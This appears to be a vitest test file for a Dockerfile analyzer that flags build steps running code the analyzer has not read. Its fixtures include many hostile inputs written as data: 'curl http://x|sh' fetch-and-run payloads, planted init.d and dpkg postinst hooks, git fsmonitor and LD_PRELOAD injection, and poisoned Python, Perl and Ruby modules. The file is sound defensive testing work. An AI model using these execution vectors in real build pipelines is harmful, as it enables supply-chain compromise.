import { expect, test } from 'vitest';
import { analysisOf, stage } from './support.ts';

type Files = Readonly<Record<string, string>>;

/** True where a command is unread, and not held by a verified download. */
function isUnread(lines: string, files: Files): boolean {
  return analysisOf(stage(lines), {}, files).unread.some(({ held }) => held !== true);
}

test.each<readonly [string, Files]>([
  ['RUN php -r \'array_filter(["./x"], "sys"."tem");\'', {}],
  [
    'ENV MAKEFILES=/e.mk\nCOPY evil.mk /e.mk\nRUN curl -o a.tgz https://x/a.tgz && echo "@S  a.tgz" | sha256sum -c && tar xf a.tgz && cd a && make',
    { 'evil.mk': '$(shell curl http://y|sh)\n' },
  ],
  ['RUN --mount=type=cache,target=/usr/local/bin ls', {}],
  ['COPY evil.jar /e.jar\nRUN javac -cp /e.jar A.java', { 'evil.jar': 'PK' }],
  [
    'COPY r.git /r.git\nENV GIT_DIR=/r.git\nRUN git status',
    { 'r.git/config': '[core]\nfsmonitor = ./x\n', 'r.git/HEAD': 'ref: refs/heads/main\n' },
  ],
  ['RUN php -r \'("sys"."tem")("./x");\'', {}],
  ['COPY n.conf /n.conf\nRUN nginx -t -c /n.conf', { 'n.conf': 'load_module /x.so;\n' }],
  ['RUN dpkg-architecture -c ./x', {}],
  [
    'RUN curl -o a.tgz https://x/a.tgz && echo "@S  a.tgz" | sha256sum -c && tar xf a.tgz && make -C a --eval=\'$(shell curl http://y|sh)\'',
    {},
  ],
  ['RUN ssh-keygen -t ecdsa-sk -w ./x.so -f k', {}],
  ['RUN --mount=type=bind,from=evil,source=/bin,target=/bin ls', {}],
  ['COPY evil /etc/init.d/evil\nRUN service evil start', { evil: '#!/bin/sh\ncurl http://x|sh\n' }],
  ['RUN man -P ./x ls', {}],
  [
    'COPY evil /etc/init.d/cron\nRUN invoke-rc.d cron start',
    { evil: '#!/bin/sh\ncurl http://x|sh\n' },
  ],
  [
    'COPY Makefile /tmp/M\nRUN curl -o a.tgz https://x/a.tgz && echo "@S  a.tgz" | sha256sum -c && tar xf a.tgz && cp /tmp/M a/Makefile && cd a && make',
    { Makefile: 'all:\n	curl http://y|sh\n' },
  ],
  ['COPY . /src\nRUN git -C /src status', { '.git/config': '[core]\nfsmonitor = ./x\n' }],
  [
    'COPY evil.py .\nRUN python3 -X importtime -c "import evil"',
    { 'evil.py': 'import os\nos.system("./x")\n' },
  ],
  ['RUN php -d auto_prepend_file=/x.php -r "1;"', {}],
  ['COPY strict.pm .\nRUN perl -I. -Mstrict -e 1', { 'strict.pm': 'system("./x");1;\n' }],
  ['RUN kotlinc -script x.kts', {}],
  [
    'COPY evil /etc/initramfs-tools/hooks/evil\nRUN update-initramfs -u',
    { evil: '#!/bin/sh\ncurl http://x|sh\n' },
  ],
  [
    'COPY evil /etc/ca-certificates/update.d/evil\nRUN update-ca-certificates',
    { evil: '#!/bin/sh\ncurl http://x|sh\n' },
  ],
  ['RUN --mount=type=secret,id=e,env=LD_PRELOAD ls', {}],
  ['RUN clang -fpass-plugin=./x.so a.c', {}],
  [
    'ENV CC="curl http://y|sh;gcc"\nRUN curl -o a.tgz https://x/a.tgz && echo "@S  a.tgz" | sha256sum -c && tar xf a.tgz && cd a && ./configure && make',
    {},
  ],
  [
    'COPY evil /var/lib/dpkg/info/tzdata.postinst\nRUN dpkg-reconfigure tzdata',
    { evil: '#!/bin/sh\ncurl http://x|sh\n' },
  ],
  ['RUN dmd -run x.d', {}],
  ['RUN tcc -run x.c', {}],
  ['RUN php -r \'$f = new ReflectionFunction("sys"."tem"); $f->invoke("./x");\'', {}],
  ['RUN rustc --extern m=./libm.so x.rs', {}],
  ['RUN --mount=type=bind,from=evil,target=/usr/local/bin ls', {}],
  ['RUN node --import ./x.mjs -e 1', {}],
  ["RUN ruby -ne 'print' '|./x'", {}],
  [
    'COPY evil.conf /r.conf\nRUN redis-server /r.conf --daemonize yes',
    { 'evil.conf': 'loadmodule /x.so\n' },
  ],
  [
    'COPY r.git /r.git\nRUN git --git-dir=/r.git status',
    { 'r.git/config': '[core]\nfsmonitor = ./x\n', 'r.git/HEAD': 'ref: refs/heads/main\n' },
  ],
  [
    'ENV MAKEFLAGS="--eval=$(shell curl http://y)"\nRUN curl -o a.tgz https://x/a.tgz && echo "@S  a.tgz" | sha256sum -c && tar xf a.tgz && cd a && make',
    {},
  ],
  [
    'RUN curl -o a.tgz https://x/a.tgz && echo "@S  a.tgz" | sha256sum -c && tar xf a.tgz && cmake -S a -DCMAKE_C_COMPILER=/evil',
    {},
  ],
  ['COPY json.rb .\nRUN ruby -I. -e "require \'json\'"', { 'json.rb': 'system("./x")\n' }],
  [
    'COPY t.cmake /t.cmake\nRUN curl -o a.tgz https://x/a.tgz && echo "@S  a.tgz" | sha256sum -c && tar xf a.tgz && cd a && cmake -DCMAKE_TOOLCHAIN_FILE=/t.cmake .',
    { 't.cmake': 'execute_process(COMMAND curl http://y)\n' },
  ],
  ['RUN man --pager=./x ls', {}],
  [
    'RUN curl -o a.tgz https://x/a.tgz && echo "@S  a.tgz" | sha256sum -c && tar xf a.tgz && cd a && printf "all:\\n\\tcurl http://y | sh\\n" > Makefile && make',
    {},
  ],
  ['RUN ssh-add -s ./x.so', {}],
  [
    'RUN curl -o a.tgz https://x/a.tgz && echo "@S  a.tgz" | sha256sum -c && tar xf a.tgz && cd a && ./configure CC="curl http://y|sh;gcc"',
    {},
  ],
  [
    'COPY evil.mk /e.mk\nRUN curl -o a.tgz https://x/a.tgz && echo "@S  a.tgz" | sha256sum -c && tar xf a.tgz && cd a && make -f /e.mk',
    { 'evil.mk': 'all:\n	curl http://y|sh\n' },
  ],
  ["RUN perl -e 'while (<>) { print }' './x |'", {}],
  ['RUN --mount=type=secret,id=e,env=BASH_ENV bash -c ls', {}],
  [
    'COPY json.py /ctx/json.py\nRUN python3 -c "import sys; sys.path.insert(0, \'/ctx\'); import json"',
    { 'json.py': 'import os\nos.system("./x")\n' },
  ],
  ['COPY h.cfg /h.cfg\nRUN haproxy -c -f /h.cfg', { 'h.cfg': 'global\n lua-load /x.lua\n' }],
  ["RUN dpkg-architecture --command='curl http://x | sh'", {}],
  [
    'RUN curl -o a.tgz https://x/a.tgz && echo "@S  a.tgz" | sha256sum -c && tar xf a.tgz && cd a && make SHELL=/evil',
    {},
  ],
  ...[
    'RUN a=(x); echo ${a[$(cat /f)]}',
    'RUN n=$(cat /f); echo $((n + 1))',
    'RUN n=$(cat /f); (( n > 3 )) || true',
    'RUN n=$(cat /f); if [[ $n -gt 3 ]]; then echo; fi',
    'RUN read n < /f; let m=n+1',
    'RUN a=(x); read i < /f; echo ${a[i]}',
    'RUN n=$(cat /f | head -n1); s=abc; echo ${s:n:1}',
  ].map((run): [string, Files] => [
    `SHELL ["/bin/bash","-c"]\nCOPY f /f\n${run}`,
    { f: 'a[$(curl http://x|sh)]\n' },
  ]),
  ['ENV ENV=/x.sh\nCOPY x.sh /x.sh\nRUN sh -ic "echo"', { 'x.sh': 'curl http://x | sh\n' }],
  [
    'COPY e /e\nENV PYTHONPATH=/e\nRUN python3 -m json.tool /a',
    { 'e/json/tool.py': 'import os\nos.system("./x")\n' },
  ],
  ['COPY json.py .\nRUN python3 -m json.tool /a', { 'json.py': 'import os\nos.system("./x")\n' }],
  [
    'COPY s.py /usr/lib/python3/dist-packages/sitecustomize.py\nRUN python3 -m venv /v',
    { 's.py': 'import urllib.request\nurllib.request.urlopen(X).read()\n' },
  ],
])('unread: %s', (lines, files) => {
  expect(isUnread(lines, files)).toBe(true);
});

const SOURCE =
  'RUN curl -o a.tgz https://x/a.tgz && echo "@S  a.tgz" | sha256sum -c && tar xf a.tgz';
test.each<readonly [string, Files]>([
  [
    `${SOURCE} && cd a && ./configure --prefix=/usr CC=clang CFLAGS="-O2 -g" && make -j "$(nproc)"`,
    {},
  ],
  [`${SOURCE} && cmake -S a -B b -DCMAKE_BUILD_TYPE=Release && make -C a PREFIX=/usr install`, {}],
  [
    'COPY n.conf /etc/nginx/nginx.conf\nRUN nginx -t',
    { 'n.conf': 'load_module modules/x.so;\nevents {}\n' },
  ],
  ['COPY evil /etc/init.d/other\nRUN service nginx start', { evil: '#!/bin/sh\n' }],
  ['RUN --mount=type=cache,target=/root/.cache ls', {}],
  ['RUN --mount=type=bind,from=uv,source=/uv,target=/bin/uv ls', {}],
  [
    "RUN php -d memory_limit=-1 -r 'echo PHP_VERSION;' && php -r 'var_dump(extension_loaded(\"x\"));'",
    {},
  ],
  ["RUN perl -0777 -pi.bak -e 's/a/b/g' f && ruby -ne 'print' f && node --no-warnings -e 1", {}],
  ['RUN python3 -W ignore -X utf8 -c "import sys; print(sys.version)"', {}],
  ['ENV MAKEFLAGS=-j4 CC="gcc -m32" SHELLOPTS=pipefail\nRUN ls', {}],
  ['COPY . /src\nRUN git -C /src describe', { '.git/config': '[core]\n\tbare = false\n' }],
  [
    'RUN dpkg-architecture -qDEB_HOST_ARCH && ssh-agent -s && javac -proc:none -cp a.jar A.java',
    {},
  ],
  ['ENV ENV=production\nRUN sh -ic "echo"', {}],
  ...[
    'RUN n=$(nproc); echo $((n + 1))',
    'RUN for i in 1 2 3; do (( i > 2 )) && break; done',
    'RUN n=$(cat /proc/meminfo | awk "{print \\$2}"); echo $((n / 1024))',
    'RUN seq 3 | while read i; do echo $((i * 2)); done',
    'RUN declare -A a; a[x]=1; for k in x; do echo ${a[$k]}; done',
  ].map((run): [string, Files] => [`SHELL ["/bin/bash","-c"]\n${run}`, {}]),
  ['RUN n=$(cat /f); echo $((n + 1))', {}],
])('read: %s', (lines, files) => {
  expect(isUnread(lines, files)).toBe(false);
});
